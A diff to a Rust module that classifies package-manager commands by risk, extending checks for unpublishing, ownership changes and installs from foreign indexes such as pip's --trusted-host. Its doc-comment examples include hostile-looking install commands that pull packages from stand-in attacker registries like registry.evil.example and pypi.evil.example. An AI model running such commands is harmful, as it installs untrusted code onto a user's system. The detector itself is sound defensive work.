@@ -27,6 +27,7 @@
 //! gem install --source http://203.0.113.60:8808 acme
 //! npm install --registry=https://registry.evil.example left-pad
 //! uvx some-unknown-formatter .
+//! pip install --trusted-host pypi.evil.example x
 //! uvx --from git+https://github.com/z/e e
 //! bunx cowsay-but-evil hi
 //! npx --yes create-helperz@latest
@@ -148,7 +149,7 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
         return run.effect(Kind::Spend, &target, Scope::Remote, R5, "publishes permanently");
     }
     match (name, first) {
-        ("npm" | "pnpm" | "yarn" | "bun", "unpublish")
+        ("npm" | "pnpm" | "yarn" | "bun" | "vsce" | "ovsx", "unpublish")
         | ("cargo" | "gem", "yank")
         | ("cargo", "owner")
             if first != "owner" || args.iter().any(|arg| arg.text == "--remove") =>
@@ -169,6 +170,17 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
                 "changes a published package",
             );
         }
+        ("dotnet", "nuget") if second == "delete" => {
+            return run.remote(&target, "unpublishes a package");
+        }
+        ("yarn", "npm") if second == "tag" && words.contains(&"remove") => {
+            let why = "changes a published package";
+            return run.ask(Kind::RemoteState, &target, Scope::Remote, why);
+        }
+        ("gem", "owner") if args.iter().any(|arg| matches!(&*arg.text, "-r" | "--remove")) => {
+            let why = "changes who owns a package";
+            return run.ask(Kind::RemoteState, &target, Scope::Remote, why);
+        }
         ("nuget", "delete") => return run.remote(&target, "unpublishes a package"),
         (
             "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "apk" | "pacman" | "dpkg"
@@ -182,6 +194,7 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
             let removes = matches!(
                 first,
                 "remove"
+                    | "rm"
                     | "purge"
                     | "autoremove"
                     | "erase"
@@ -455,6 +468,7 @@ fn installs(run: &mut Run<'_, '_>, words: &[&str]) {
                 | "--find-links"
                 | "-f"
                 | "--channel"
+                | "--trusted-host"
         )
     };
     for (at, arg) in args.iter().enumerate() {
@@ -465,7 +479,9 @@ fn installs(run: &mut Run<'_, '_>, words: &[&str]) {
         if index(name) && installs {
             let value =
                 attached.or_else(|| args.get(at + 1).map(|next| next.text.as_str())).unwrap_or("");
-            if sources::foreign_source(value).is_some() {
+            let is_host = name == "--trusted-host";
+            let url = if is_host { format!("https://{value}") } else { value.to_owned() };
+            if sources::foreign_source(&url).is_some() {
                 let value = value.to_owned();
                 return untrusted(run, &value, "takes packages from another index");
             }
